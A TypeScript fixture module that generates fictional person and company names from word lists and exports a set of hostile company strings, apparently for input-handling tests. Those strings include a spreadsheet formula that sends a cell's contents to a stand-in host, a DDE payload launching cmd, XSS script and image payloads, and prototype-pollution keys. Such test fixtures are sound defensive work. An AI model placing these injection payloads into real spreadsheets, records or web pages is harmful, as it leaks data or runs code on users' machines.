/** People and companies that do not exist: names put together from parts, and a few that are meant to hurt. */

const first =
  'Amara Anouk Arjun Astrid Bea Bohdan Camila Chidi Clara Dario Dilnoza Edda Eero Fatima Finn Goran Hana Hugo Ilse Ines Ivo Jana Joaquin Kaito Katya Leila Lorenzo Lucia Maeve Malik Marek Mei Milo Nadia Naomi Niko Oksana Omar Orla Paolo Petra Priya Rafael Renske Rhea Rosa Samir Selin Sigrid Sora Tariq Tess Tomas Uma Veda Viktor Wanjiru Yara Yusuf Zofia'.split(
    ' ',
  );
const last =
  'Abara Achterberg Alvarado Bakke Baranov Belmonte Bergqvist Bhatt Bianchi Brannigan Caldwell Cermak Chaudhry Coelho Dahl Danso Demir Dragan Eklund Engel Esposito Farkas Ferrant Fujita Galvez Gerasim Grahame Haddad Halloran Hashemi Horvat Ibarra Ingram Jelen Joshi Kaminski Karlsen Kimura Kovacs Lachance Leroux Lukic Maalouf Marin Mbatha Mendoza Nagy Nwosu Oduya Okabe Oyelaran Paz Pereira Quist Ramaswamy Ritter Rossi Sato Silva Soto Svensson Takeda Torres Ueda Valdez Varga Wambua Weiss Yamada Yildiz Zapata Zeman'.split(
    ' ',
  );
const opening =
  'Bri Cal Cor Dor Ely Fen Gal Hal Iri Jas Kel Lum Mar Nor Oro Pel Qua Ros Sel Tam Ulv Ver Wes Xan Yar Zel Ard Bol Cyr Dax Eno Fir'.split(
    ' ',
  );
const ending =
  'vanto dexa moor thwick lino quist bery nook stane vale rick tora wend phane gild cress dorn mira sett varo holt trix fold menta'.split(
    ' ',
  );
const trade =
  'Systems Labs Logistics Health Foods Robotics Analytics Freight Energy Software Media Works Instruments Materials Retail Learning'.split(
    ' ',
  );

/** Company texts as they turn up in real CRMs: formulas, markup, and names that are words of the language behind the screen. */
export const hostileCompanies: readonly string[] = [
  '=HYPERLINK("http://collector.example/?c="&A1,"Click me")',
  '<b>Ltd</b>',
  '__proto__',
  'constructor',
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '<img src=x onerror=alert(1)>',
  'Fen "Fjord" & Søn, A/S',
  'Kōbō 工房 — Ärzte-Netz',
];
export const hostileReason = '<script>alert("reason")</script>';

export const companyCount = opening.length * ending.length * trade.length;

/** The company with this number; numbers below {@link companyCount} give different names. */
export function companyName(number: number): string {
  // 7919 is prime to the count, so that neighbours do not sound alike.
  const n = (number * 7919) % companyCount;
  const stem = Math.floor(n / trade.length);
  const name = `${opening[Math.floor(stem / ending.length)]}${ending[stem % ending.length]}`;
  return `${name} ${trade[n % trade.length]}`;
}

export function firstName(number: number): string {
  return first[number % first.length]!;
}

export function lastName(number: number): string {
  return last[number % last.length]!;
}
